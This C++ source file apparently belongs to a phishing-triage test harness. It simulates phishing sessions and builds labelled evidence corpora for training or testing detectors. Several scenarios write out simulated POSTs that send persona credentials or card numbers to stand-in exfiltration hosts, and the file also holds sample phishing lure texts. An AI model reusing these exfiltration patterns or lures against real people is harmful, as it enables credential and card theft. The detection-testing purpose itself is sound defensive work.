#include "triage/simulator.hpp"

#include <nlohmann/json.hpp>

#include <algorithm>
#include <random>

#include "triage/errors.hpp"

namespace triage {

using json = nlohmann::json;

std::string_view scenario_kind_name(ScenarioKind k) {
  switch (k) {
    case ScenarioKind::benign: return "benign";
    case ScenarioKind::brand_impersonation: return "brand_impersonation";
    case ScenarioKind::logoless_harvester: return "logoless_harvester";
    case ScenarioKind::noncrp_crypto: return "noncrp_crypto";
    case ScenarioKind::gated_arith: return "gated_arith";
    case ScenarioKind::gated_slider_loop: return "gated_slider_loop";
    case ScenarioKind::progressive_chat: return "progressive_chat";
    case ScenarioKind::legit_service_abuse: return "legit_service_abuse";
  }
  return "benign";
}

std::optional<ScenarioKind> scenario_kind_from_name(std::string_view name) {
  for (ScenarioKind k : kAllScenarioKinds)
    if (scenario_kind_name(k) == name) return k;
  return std::nullopt;
}

std::string_view failure_mode_name(FailureMode m) {
  switch (m) {
    case FailureMode::none: return "none";
    case FailureMode::symbol_hallucination: return "symbol";
    case FailureMode::literal_transcription: return "literal";
  }
  return "none";
}

std::optional<FailureMode> failure_mode_from_name(std::string_view name) {
  if (name == "none") return FailureMode::none;
  if (name == "symbol" || name == "symbol_hallucination")
    return FailureMode::symbol_hallucination;
  if (name == "literal" || name == "literal_transcription")
    return FailureMode::literal_transcription;
  return std::nullopt;
}

GateAttempt solve_gate(const GateSpec& gate, FailureMode mode) {
  if (mode != FailureMode::none && gate.kind != GateKind::arithmetic)
    throw ScenarioError("failure modes apply only to arithmetic gates");
  switch (gate.kind) {
    case GateKind::arithmetic: {
      const auto& g = std::get<ArithmeticGate>(gate.params);
      if (g.op != '+' && g.op != '-')
        throw ScenarioError("arithmetic gate operator must be + or -");
      const int truth = g.op == '+' ? g.a + g.b : g.a - g.b;
      std::string answer;
      switch (mode) {
        case FailureMode::none:
          answer = std::to_string(truth);
          break;
        case FailureMode::symbol_hallucination:
          answer = std::to_string(g.op == '+' ? g.a - g.b : g.a + g.b);
          break;
        case FailureMode::literal_transcription:
          answer = std::to_string(g.a) + std::to_string(g.b);
          break;
      }
      // The page accepts exactly the true evaluation.
      return GateAttempt{answer, answer == std::to_string(truth)};
    }
    case GateKind::slider:
      return GateAttempt{"drag", std::get<SliderGate>(gate.params).pass};
    case GateKind::chat:
      return GateAttempt{"reply", true};
  }
  throw ScenarioError("unknown gate kind");
}

ScenarioScript ScenarioScript::for_kind(ScenarioKind kind, std::uint64_t seed) {
  ScenarioScript s;
  s.kind = kind;
  s.seed = seed;
  switch (kind) {
    case ScenarioKind::benign:
      s.expected_label = Label::benign;
      break;
    case ScenarioKind::brand_impersonation:
      s.exfil_host = "harvest.collect-zone.cc";
      s.expected_label = Label::phishing;
      s.expected_techniques = {"T1566.002", "T1204.001", "T1056.002",
                               "T1041",     "T1027",     "T1189"};
      break;
    case ScenarioKind::logoless_harvester:
      s.exfil_host = "collect.r2-static-cdn.cc";
      s.expected_label = Label::phishing;
      s.expected_techniques = {"T1056.002", "T1041", "T1566.002"};
      break;
    case ScenarioKind::noncrp_crypto:
      s.expected_label = Label::phishing;
      s.expected_techniques = {"T1566.002", "T1027"};
      break;
    case ScenarioKind::gated_arith:
      s.gates.push_back(GateSpec{GateKind::arithmetic, ArithmeticGate{8, 7, '+'}});
      s.exfil_host = "sink.data-collect.top";
      s.expected_label = Label::phishing;
      s.expected_techniques = {"T1566.002", "T1204.001", "T1056.002", "T1041"};
      break;
    case ScenarioKind::gated_slider_loop:
      s.gates.push_back(GateSpec{GateKind::slider, SliderGate{false, 0}});
      s.expected_label = Label::phishing;
      s.expected_techniques = {"T1566.002"};
      break;
    case ScenarioKind::progressive_chat:
      s.gates.push_back(GateSpec{GateKind::chat, ChatGate{3}});
      s.exfil_host = "intake.chat-forms-collect.top";
      s.expected_label = Label::phishing;
      s.expected_techniques = {"T1566.002", "T1056.002", "T1041"};
      break;
    case ScenarioKind::legit_service_abuse:
      s.expected_label = Label::phishing;
      s.expected_techniques = {"T1566.002", "T1056.002", "T1041"};
      break;
  }
  return s;
}

namespace {

struct ScenarioHosts {
  std::string lure_from;
  std::string lure_subject;
  std::string lure_body;
  std::string target_url;
};

ScenarioHosts hosts_for(ScenarioKind kind) {
  switch (kind) {
    case ScenarioKind::benign:
      return {"newsletter@acme-cloud.example", "Your monthly usage summary",
              "Hi, your usage report for last month is ready in the account portal.",
              "https://updates.acme-cloud.example/account"};
    case ScenarioKind::brand_impersonation:
      return {"support@streaming-service.com",
              "Action Required: Update your billing information",
              "Dear Customer, we could not process your latest payment. Sign in to "
              "update your billing details within 24 hours.",
              "https://billing.streaming-service-verify.com/login"};
    case ScenarioKind::logoless_harvester:
      return {"security@account-services.com", "Security notice: verify your identity",
              "This is a very important security measure. Your account may be "
              "restricted until your identity can be verified.",
              "http://verify-login-portal.xyz/"};
    case ScenarioKind::noncrp_crypto:
      return {"alerts@wallet-notify.io", "Claim your pending rewards",
              "Your reward allocation expires soon. Connect your wallet to claim.",
              "https://dex-rewards-claim.cc/"};
    case ScenarioKind::gated_arith:
      return {"billing@invoice-alerts.net", "Invoice 58213 is ready to view",
              "A new invoice was shared with you. Open the secure document gateway "
              "to review it.",
              "http://secure-doc-gateway.info/view"};
    case ScenarioKind::gated_slider_loop:
      return {"notice@delivery-status.net", "Delivery attempt failed",
              "We could not deliver your parcel. Verify the address to reschedule.",
              "http://parcel-verify-gate.site/"};
    case ScenarioKind::progressive_chat:
      return {"care@support-desk-online.com", "We are here to help with your order",
              "An agent is available to resolve your delivery issue. Start a chat.",
              "https://quick-help-center.info/chat"};
    case ScenarioKind::legit_service_abuse:
      return {"benefits@notify-hr-updates.com", "2025 BENEFIT PROGRAM enrollment",
              "Complete the attached enrollment form to receive your benefit payout.",
              "https://forms.hosted-docs.example/d/benefit-2025"};
  }
  return {};
}

std::string hex64(std::uint64_t v) {
  char buf[32];
  std::snprintf(buf, sizeof(buf), "%016llx", static_cast<unsigned long long>(v));
  return buf;
}

// Light build helper around the bundle streams; times are relative seconds
// with exact microsecond arithmetic.
class SessionBuilder {
 public:
  SessionBuilder(const ScenarioScript& script, const Persona& persona, FailureMode mode)
      : rng_(mix64(script.seed ^ (static_cast<std::uint64_t>(script.kind) << 32))) {
    ScenarioHosts h = hosts_for(script.kind);
    bundle_.bundle_id = std::string("sim-") + std::string(scenario_kind_name(script.kind)) +
                        "-s" + std::to_string(script.seed);
    if (mode != FailureMode::none)
      bundle_.bundle_id += std::string("-") + std::string(failure_mode_name(mode));
    std::replace(bundle_.bundle_id.begin(), bundle_.bundle_id.end(), '_', '-');
    bundle_.epoch_t0 = 1700000000.0 + static_cast<double>(script.seed % 100000);
    bundle_.context.lure_from = h.lure_from;
    bundle_.context.lure_subject = h.lure_subject;
    bundle_.context.lure_body_text = h.lure_body;
    bundle_.context.target_url = h.target_url;
    bundle_.context.persona = persona;
    bundle_.context.time_budget_s = 60.0;
    nonce_ = hex64(rng_());
  }

  RelTime rel(double seconds) { return RelTime::from_seconds(seconds); }

  std::string add_resource(std::string id, ResourceKind kind, std::string content) {
    bundle_.resources.put_text(id, kind, content);
    return id;
  }

  NetworkRecord& request(double t, const std::string& method, const std::string& url,
                         int status, const std::string& mime,
                         const std::string& request_body = {},
                         const std::string& body_resource_id = {}) {
    NetworkRecord r;
    r.seq = bundle_.network.size();
    r.started_at = bundle_.epoch_t0 + t;
    r.duration_ms = 40.0 + static_cast<double>(rng_() % 1200) / 10.0;
    r.method = method;
    r.url = url;
    r.host = host_of_url(url);
    r.status = status;
    r.request_headers = {{"Host", r.host}, {"User-Agent", bundle_.context.persona.user_agent}};
    if (!request_body.empty()) {
      r.request_headers.push_back({"Content-Type", "application/x-www-form-urlencoded"});
      r.request_body = request_body;
    }
    if (status != 0) r.response_headers = {{"Content-Type", mime}};
    r.mime_type = mime;
    r.response_body_ref = body_resource_id;
    bundle_.network.push_back(std::move(r));
    return bundle_.network.back();
  }

  void click(double t, int x, int y, const std::string& note) {
    bundle_.actions.push_back(
        ActionEvent{rel(t), ActionKind::click, ClickPayload{x, y}, note});
  }
  void type(double t, const std::string& target, const std::string& text,
            const std::string& note) {
    bundle_.actions.push_back(
        ActionEvent{rel(t), ActionKind::type, TypePayload{target, text}, note});
  }
  void navigate(double t, const std::string& url, const std::string& note) {
    bundle_.actions.push_back(
        ActionEvent{rel(t), ActionKind::navigate, NavigatePayload{url}, note});
  }
  void scroll(double t, int dy, const std::string& note) {
    bundle_.actions.push_back(
        ActionEvent{rel(t), ActionKind::scroll, ScrollPayload{dy}, note});
  }
  void note(double t, const std::string& text, const std::string& note) {
    bundle_.actions.push_back(
        ActionEvent{rel(t), ActionKind::note, NotePayload{text}, note});
  }

  // Plain-text source: low byte entropy, no decode-eval patterns.
  std::string plain_script() const {
    return "(function () {\n"
           "  function onReady(fn) { document.addEventListener('load', fn); }\n"
           "  onReady(function () {\n"
           "    var banner = document.getElementById('banner');\n"
           "    if (banner) { banner.classList.add('visible'); }\n"
           "    var year = document.getElementById('year');\n"
           "    if (year) { year.textContent = '2025'; }\n"
           "  });\n"
           "})();\n";
  }

  // Base64 of seeded random bytes: entropy near 6 bits/char.
  std::string packed_script() {
    std::vector<unsigned char> blob(1536);
    for (auto& b : blob) b = static_cast<unsigned char>(rng_() & 0xff);
    return "var p=\"" + base64_encode(std::span<const unsigned char>(blob.data(), blob.size())) +
           "\";\n";
  }

  std::string landing_html(bool with_form, const std::string& title) {
    std::string form = with_form
                           ? "<form method=\"post\"><input type=\"text\" "
                             "name=\"user\"/><input type=\"password\" "
                             "name=\"pass\"/><button>Continue</button></form>"
                           : "<p>No action is required.</p>";
    return "<!doctype html><html><head><title>" + title +
           "</title></head><body><!-- session " + nonce_ + " --><h1>" + title + "</h1>" +
           form + "</body></html>";
  }

  void frames_until(double session_end) {
    int n = static_cast<int>(session_end / 0.5) + 1;  // 0.5 s cadence from t=0
    for (int i = 0; i < n; ++i) {
      char id[32];
      std::snprintf(id, sizeof(id), "frm-%04d", i);
      double t = 0.5 * i;
      add_resource(id, ResourceKind::image,
                   "placeholder-frame bundle=" + bundle_.bundle_id + " n=" +
                       std::to_string(i) + " t=" + RelTime::from_seconds(t).str() +
                       " nonce=" + nonce_ + "\n");
      bundle_.frames.push_back(FrameRecord{static_cast<std::uint64_t>(i), rel(t), id});
    }
    bundle_.session_end = rel(session_end);
  }

  EvidenceBundle finish() {
    seal(bundle_);
    return std::move(bundle_);
  }

  EvidenceBundle bundle_;
  std::mt19937_64 rng_;
  std::string nonce_;
};

}  // namespace

std::pair<EvidenceBundle, GroundTruth> run_scenario(const ScenarioScript& script,
                                                    const Persona& persona,
                                                    FailureMode mode) {
  if (!persona.complete()) throw ScenarioError("run_scenario: persona has empty fields");
  if (mode != FailureMode::none) {
    bool has_arith = std::any_of(script.gates.begin(), script.gates.end(),
                                 [](const GateSpec& g) { return g.kind == GateKind::arithmetic; });
    if (!has_arith)
      throw ScenarioError("failure modes apply only to arithmetic-gated scripts");
  }

  SessionBuilder sb(script, persona, mode);
  const ScenarioHosts h = hosts_for(script.kind);
  const std::string target_host = host_of_url(h.target_url);
  const Persona& p = persona;

  GroundTruth truth;
  truth.label = script.expected_label;

  auto origin = [&](const std::string& path) {
    auto parts = parse_url(h.target_url);
    return parts->scheme + "://" + parts->host + path;
  };

  switch (script.kind) {
    case ScenarioKind::benign: {
      std::string page = sb.add_resource("res-000-landing.html", ResourceKind::html,
                                         sb.landing_html(false, "Usage summary"));
      sb.request(0.0, "GET", h.target_url, 200, "text/html", "", page);
      std::string css = sb.add_resource("res-001-style.css", ResourceKind::other,
                                        "body { margin: 0; font: 14px sans-serif; }\n");
      sb.request(0.3, "GET", origin("/static/style.css"), 200, "text/css", "", css);
      std::string js = sb.add_resource("res-002-app.js", ResourceKind::script,
                                       sb.plain_script());
      sb.request(0.5, "GET", origin("/static/app.js"), 200, "application/javascript", "", js);
      sb.navigate(0.2, h.target_url, "opened account portal from the message");
      sb.scroll(1.5, 600, "reading the summary");
      sb.scroll(3.0, 600, "reading the summary");
      sb.frames_until(6.0);
      break;
    }

    case ScenarioKind::brand_impersonation: {
      std::string page = sb.add_resource("res-000-landing.html", ResourceKind::html,
                                         sb.landing_html(true, "Sign in to continue"));
      sb.request(0.0, "GET", h.target_url, 200, "text/html", "", page);
      std::string packed = sb.add_resource("res-001-loader.js", ResourceKind::script,
                                           sb.packed_script());
      sb.request(0.4, "GET", "https://cdn.bucket-static.dev/a/loader.js", 200,
                 "application/javascript", "", packed);
      sb.navigate(0.2, h.target_url, "followed the billing link");
      sb.click(2.0, 512, 420, "clicked the sign-in call-to-action");
      sb.navigate(2.4, origin("/login"), "login form loaded");
      std::string login = sb.add_resource("res-002-login.html", ResourceKind::html,
                                          sb.landing_html(true, "Account sign in"));
      sb.request(2.5, "GET", origin("/login"), 200, "text/html", "", login);
      sb.type(6.0, "Email or username", p.username, "entered the persona username");
      sb.type(7.5, "Password", p.password, "entered the persona password");
      sb.click(9.0, 512, 600, "submitted the login form");
      sb.request(9.4, "POST", "https://" + *script.exfil_host + "/drop", 200, "text/plain",
                 "user=" + p.username + "&pass=" + p.password);
      std::string exe = sb.add_resource("res-003-update.bin", ResourceKind::other,
                                        "MZSTUB " + std::string(64, 'A') + "\n");
      sb.request(11.0, "GET", origin("/player-update.exe"), 200,
                 "application/x-msdownload", "", exe);
      sb.note(11.5, "download prompt shown for player-update.exe", "payload offered");
      sb.frames_until(12.5);
      truth.techniques = script.expected_techniques;
      break;
    }

    case ScenarioKind::logoless_harvester: {
      std::string page = sb.add_resource("res-000-landing.html", ResourceKind::html,
                                         sb.landing_html(true, "Verify your identity"));
      sb.request(0.0, "GET", h.target_url, 200, "text/html", "", page);
      std::string js = sb.add_resource("res-001-form.js", ResourceKind::script,
                                       sb.plain_script());
      sb.request(0.4, "GET", "https://assets.r2-static-cdn.cc/form.js", 200,
                 "application/javascript", "", js);
      sb.navigate(0.2, h.target_url, "opened the verification page from the lure");
      sb.scroll(2.0, 400, "inspected the form");
      sb.type(5.0, "Email", p.email, "entered the persona email");
      sb.type(8.1, "Password", p.password, "entered the persona password");
      sb.click(9.0, 420, 515, "submitted the verification form");
      sb.request(9.4, "POST", "https://" + *script.exfil_host + "/submit", 200, "text/plain",
                 "email=" + p.email + "&password=" + p.password);
      sb.frames_until(12.0);
      truth.techniques = script.expected_techniques;
      break;
    }

    case ScenarioKind::noncrp_crypto: {
      std::string page = sb.add_resource("res-000-landing.html", ResourceKind::html,
                                         sb.landing_html(false, "Claim rewards"));
      sb.request(0.0, "GET", h.target_url, 200, "text/html", "", page);
      std::string drainer = sb.add_resource("res-001-drainer.js", ResourceKind::script,
                                            sb.packed_script());
      sb.request(0.4, "GET", origin("/static/connect.js"), 200, "application/javascript",
                 "", drainer);
      sb.navigate(0.2, h.target_url, "opened the claim page");
      sb.click(3.0, 500, 380, "clicked the connect-wallet button");
      sb.note(3.5, "wallet connection modal rendered; approval requested",
              "no credential form present");
      sb.request(4.0, "POST", origin("/api/session"), 200, "application/json",
                 "{\"event\":\"connect_clicked\"}");
      sb.frames_until(7.0);
      truth.techniques = script.expected_techniques;
      break;
    }

    case ScenarioKind::gated_arith: {
      const auto& gate = script.gates.at(0);
      const auto& arith = std::get<ArithmeticGate>(gate.params);
      std::string challenge =
          std::to_string(arith.a) + (arith.op == '+' ? "+" : "-") + std::to_string(arith.b);
      std::string page = sb.add_resource("res-000-gate.html", ResourceKind::html,
                                         sb.landing_html(false, "Verification required"));
      sb.request(0.0, "GET", h.target_url, 200, "text/html", "", page);
      sb.navigate(0.2, h.target_url, "opened the document gateway");
      sb.note(1.0, "challenge shown: " + challenge + "=", "numeric gate rendered");

      GateAttempt attempt = solve_gate(gate, mode);
      if (attempt.solved) {
        sb.type(2.0, "Challenge answer", attempt.answer, "typed the computed answer");
        sb.click(2.5, 480, 400, "submitted the challenge answer");
        sb.request(2.6, "POST", origin("/gate/answer"), 200, "text/plain",
                   "answer=" + attempt.answer);
        sb.navigate(3.0, origin("/document"), "gate cleared; document view loaded");
        std::string doc = sb.add_resource("res-001-document.html", ResourceKind::html,
                                          sb.landing_html(true, "Document access"));
        sb.request(3.1, "GET", origin("/document"), 200, "text/html", "", doc);
        sb.type(6.0, "Portal password", p.password, "entered the persona password");
        sb.click(7.0, 480, 560, "submitted the portal form");
        sb.request(7.4, "POST", "https://" + *script.exfil_host + "/c", 200, "text/plain",
                   "portal_pass=" + p.password);
        sb.frames_until(10.0);
        truth.techniques = script.expected_techniques;
      } else {
        // Wrong answer re-serves the gate; three attempts, then the watchdog.
        for (int i = 0; i < 3; ++i) {
          double base = 2.0 + 2.0 * i;
          sb.type(base, "Challenge answer", attempt.answer, "typed the challenge answer");
          sb.click(base + 0.5, 480, 400, "submitted the challenge answer");
          sb.request(base + 0.6, "POST", origin("/gate/answer"), 403, "text/plain",
                     "answer=" + attempt.answer);
          sb.note(base + 1.0, "challenge re-served", "gate rejected the answer");
        }
        sb.frames_until(8.0);
        truth.techniques = {"T1566.002"};
        truth.blocked = true;
      }
      break;
    }

    case ScenarioKind::gated_slider_loop: {
      const auto& gate = script.gates.at(0);
      const auto& slider = std::get<SliderGate>(gate.params);
      std::string page = sb.add_resource("res-000-gate.html", ResourceKind::html,
                                         sb.landing_html(false, "Slide to verify"));
      sb.request(0.0, "GET", h.target_url, 200, "text/html", "", page);
      sb.navigate(0.2, h.target_url, "opened the verification page");

      const double budget = sb.bundle_.context.time_budget_s;
      int attempt_no = 0;
      double t = 2.0;
      bool cleared = false;
      while (t + 2.0 <= budget) {
        ++attempt_no;
        sb.click(t, 300 + (attempt_no % 3) * 40, 420, "dragged the slider to the target");
        sb.request(t + 0.4, "POST", origin("/gate/slider"), 200, "application/json",
                   "{\"attempt\":" + std::to_string(attempt_no) + "}");
        if (slider.pass && attempt_no == slider.loop_count + 1) {
          cleared = true;
          sb.navigate(t + 1.0, origin("/content"), "slider cleared; content loaded");
          break;
        }
        sb.note(t + 1.0, "server presented another slider challenge",
                "challenge loop continues");
        t += 4.0;
      }

      if (cleared) {
        double base = t + 1.5;
        std::string doc = sb.add_resource("res-001-content.html", ResourceKind::html,
                                          sb.landing_html(true, "Address verification"));
        sb.request(base, "GET", origin("/content"), 200, "text/html", "", doc);
        sb.type(base + 2.0, "Account password", p.password, "entered the persona password");
        sb.click(base + 3.0, 480, 560, "submitted the form");
        sb.request(base + 3.4, "POST", origin("/verify"), 200, "text/plain",
                   "pass=" + p.password);
        sb.frames_until(base + 5.0);
        truth.techniques = {"T1566.002", "T1204.001", "T1056.002", "T1041"};
      } else {
        sb.frames_until(budget);  // session truncated at the time budget
        truth.techniques = {"T1566.002"};
        truth.blocked = true;
      }
      break;
    }

    case ScenarioKind::progressive_chat: {
      const auto& gate = script.gates.at(0);
      const auto& chat = std::get<ChatGate>(gate.params);
      std::string page = sb.add_resource("res-000-chat.html", ResourceKind::html,
                                         sb.landing_html(true, "Support chat"));
      sb.request(0.0, "GET", h.target_url, 200, "text/html", "", page);
      sb.navigate(0.2, h.target_url, "opened the chat from the lure");

      static const char* kTurns[] = {"Hello, I have an issue with my recent order.",
                                     "It still has not arrived.",
                                     "The order number is 55821.",
                                     "Yes, I can confirm the details."};
      double t = 2.0;
      for (int i = 0; i < chat.turns_before_pii; ++i) {
        sb.type(t, "Chat message", kTurns[i % 4], "sent a chat message");
        sb.request(t + 0.3, "POST", origin("/chat/send"), 200, "application/json",
                   "{\"turn\":" + std::to_string(i + 1) + "}");
        sb.note(t + 1.5, "agent replied with scripted reassurance", "chat continues");
        t += 3.0;
      }
      sb.note(t, "agent requests card verification to 'release the refund'",
              "PII request disclosed after scripted turns");
      sb.type(t + 2.0, "Card number", p.card_number, "entered the persona card number");
      sb.click(t + 3.0, 520, 610, "submitted the verification");
      sb.request(t + 3.4, "POST", "https://" + *script.exfil_host + "/collect", 200,
                 "text/plain", "card=" + p.card_number + "&exp=" + p.card_exp);
      sb.frames_until(t + 5.0);
      truth.techniques = script.expected_techniques;
      break;
    }

    case ScenarioKind::legit_service_abuse: {
      std::string page = sb.add_resource("res-000-form.html", ResourceKind::html,
                                         sb.landing_html(true, "2025 BENEFIT PROGRAM"));
      sb.request(0.0, "GET", h.target_url, 200, "text/html", "", page);
      sb.navigate(0.2, h.target_url, "opened the enrollment form");
      sb.scroll(2.0, 500, "read the form");
      sb.type(4.0, "Full name", p.full_name, "entered the persona name");
      sb.type(6.0, "Home address", p.address, "entered the persona address");
      sb.type(8.5, "Deposit card number", p.card_number, "entered the persona card number");
      sb.click(10.0, 470, 700, "submitted the enrollment form");
      sb.request(10.4, "POST", origin("/d/benefit-2025/formResponse"), 200, "text/html",
                 "name=" + p.full_name + "&card=" + p.card_number);
      sb.frames_until(12.0);
      truth.techniques = script.expected_techniques;
      break;
    }
  }

  EvidenceBundle bundle = sb.finish();
  if (truth.blocked) {
    // A blocked run proves nothing about the page's label by content; the
    // scenario's label is kept for reporting but evaluation excludes it.
    truth.label = script.expected_label;
  }
  return {std::move(bundle), std::move(truth)};
}

std::vector<std::pair<EvidenceBundle, GroundTruth>> build_corpus(const CorpusSpec& spec) {
  std::vector<std::pair<EvidenceBundle, GroundTruth>> out;
  Persona persona = Persona::default_persona();
  std::size_t kind_index = 0;
  for (const auto& [kind, count] : spec.counts) {
    if (count < 0) throw ScenarioError("corpus counts must be nonnegative");
    for (int i = 0; i < count; ++i) {
      std::uint64_t seed =
          mix64(spec.seed ^ mix64((kind_index + 1) * 1000003ULL + static_cast<std::uint64_t>(i)));
      ScenarioScript script = ScenarioScript::for_kind(kind, seed);
      out.push_back(run_scenario(script, persona, FailureMode::none));
    }
    ++kind_index;
  }
  return out;
}

CorpusSpec corpus_spec_from_json(std::string_view text) {
  json root = json::parse(text, nullptr, false);
  if (root.is_discarded() || !root.is_object() || root.value("version", "") != "corpus.v1")
    throw ParseError("corpus.v1: expected {version:'corpus.v1', seed, counts}");
  CorpusSpec spec;
  spec.seed = root.value("seed", 0ULL);
  if (!root.contains("counts") || !root["counts"].is_object())
    throw ParseError("corpus.v1: counts object missing");
  for (auto it = root["counts"].begin(); it != root["counts"].end(); ++it) {
    auto kind = scenario_kind_from_name(it.key());
    if (!kind) throw ParseError("corpus.v1: unknown scenario kind '" + it.key() + "'");
    if (!it.value().is_number_integer())
      throw ParseError("corpus.v1: count for " + it.key() + " must be an integer");
    spec.counts.emplace_back(*kind, it.value().get<int>());
  }
  return spec;
}

std::string corpus_spec_to_json(const CorpusSpec& spec) {
  json counts = json::object();
  for (const auto& [kind, count] : spec.counts)
    counts[std::string(scenario_kind_name(kind))] = count;
  return json{{"version", "corpus.v1"}, {"seed", spec.seed}, {"counts", counts}}.dump(2) +
         "\n";
}

}  // namespace triage
